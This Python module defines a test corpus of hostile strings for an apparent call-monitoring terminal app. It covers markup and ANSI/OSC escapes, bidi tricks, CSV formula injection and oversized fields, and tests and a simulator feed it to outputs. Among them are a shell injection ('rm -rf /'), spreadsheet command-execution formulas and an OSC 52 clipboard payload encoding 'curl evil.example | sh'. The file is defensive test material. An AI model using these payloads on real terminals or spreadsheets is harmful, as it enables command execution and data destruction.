"""Hostile strings: what a provider, or whoever controls a field it echoes (a caller's number, a
SIP reason, a display name), may put in any field to attack a terminal, a spreadsheet, the
clipboard or the layout. One named list: the simulator serves it under `--faults hostile`
(see `calltui.sim.world`) and the tests feed it to every output.
"""

from __future__ import annotations

from dataclasses import dataclass

LONG_FIELD = 100_000
"""Characters in the longest field: a table cell must cut it, the raw view must not stall."""


@dataclass(frozen=True, slots=True)
class Hostile:
    name: str
    value: str

    @property
    def bulky(self) -> bool:
        """Too long for a SIP header or a UDP datagram (the simulator's pcap)."""
        return len(self.value) > 1000

    @property
    def text_safe(self) -> bool:
        """Encodable as UTF-8: a lone surrogate travels only as a JSON `\\u` escape."""
        try:
            self.value.encode("utf-8")
        except UnicodeEncodeError:
            return False
        return True


CORPUS: tuple[Hostile, ...] = (
    # Textual / Rich markup: must show as typed, never style text or run an action.
    Hostile("markup_bold", "[bold red]PWNED[/bold red]"),
    Hostile("markup_click", "[@click=app.quit]click me[/]"),
    Hostile("markup_link", "[link=https://evil.example/x]open me[/link]"),
    Hostile("markup_unbalanced", "[/bold][/]close[/i]"),
    Hostile("markup_escaped", "\\[not markup] \\\\[b]x[/b]"),
    Hostile("rich_emoji_code", ":warning: :skull:"),
    # ANSI and OSC escape sequences, 7-bit and 8-bit.
    Hostile("ansi_clear", "\x1b[2J\x1b[H\x1b[3Jcleared"),
    Hostile("ansi_colour", "\x1b[31;1mred\x1b[0m\x1b[8mhidden"),
    Hostile("ansi_reset", "\x1bcreset\x1b7\x1b8"),
    Hostile("osc52_clipboard", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07copied"),
    Hostile("osc0_title", "\x1b]0;you have been pwned\x1b\\title"),
    Hostile("osc8_link", "\x1b]8;;https://evil.example/\x1b\\innocent\x1b]8;;\x1b\\"),
    Hostile("osc_unterminated", "\x1b]2;no terminator"),
    Hostile("c1_csi", "\x9b2J\x9d0;c1 title\x9cc1"),
    # Control characters.
    Hostile("c0_controls", "".join(chr(i) for i in range(0x20)) + "c0"),
    Hostile("c1_controls", "".join(chr(i) for i in range(0x80, 0xA0)) + "c1"),
    Hostile("nul", "before\x00after"),
    Hostile("del_backspace", "pay\x7f\x08\x08\x08\x08free"),
    Hostile("newlines", "line one\nline two\r\nFAKE,ROW\rover"),
    Hostile("line_separators", "para\u2028line\u2029sep\x85nel"),
    Hostile("tabs", "a\tb\t\tc"),
    # Bidi overrides and invisible characters.
    Hostile("bidi_rlo", "\u202egnp.exe\u202c"),
    Hostile("bidi_isolates", "\u2066\u2067\u2068isolated\u2069\u061c"),
    Hostile("zero_width", "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg"),
    Hostile("invisible_fillers", "\u115f\u3164\uffa0\U000e0041\U000e0042tag"),
    # Width: double-width scripts, emoji sequences, combining marks.
    Hostile("wide_cjk", "电话号码測試テスト한국어"),
    Hostile("wide_emoji", "📞☎️👩‍👩‍👧‍👦🏳️‍🌈"),
    Hostile("combining", "Z\u0337\u031ba\u0338l\u0336g\u0335o\u0334"),
    Hostile("rtl_text", "مرحبا שלום"),
    # Spreadsheets: a cell that starts a formula (OWASP CSV injection).
    Hostile("csv_equals", '=HYPERLINK("https://evil.example","click")'),
    Hostile("csv_plus", "+1+cmd|' /C calc'!A0"),
    Hostile("csv_minus", "-2+3+cmd|' /C calc'!A0"),
    Hostile("csv_at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    Hostile("csv_tab", "\t=1+1"),
    Hostile("csv_cr", "\r=1+1"),
    Hostile("csv_quote", 'a","b"\n"c'),
    # Other interpreters: format strings, JSON and shell fragments.
    Hostile("format_string", "{0}{__class__}%s%n%x"),
    Hostile("json_breakout", '"},{"id":"evil","x":"'),
    Hostile("shell", "$(reboot)`id`;rm -rf /"),
    # A value Python cannot encode: JSON may carry it as an escape.
    Hostile("lone_surrogate", "bad\ud800half"),
    # Size.
    Hostile("long_100k", "1234567890" * (LONG_FIELD // 10)),
)

BY_NAME = {h.name: h for h in CORPUS}
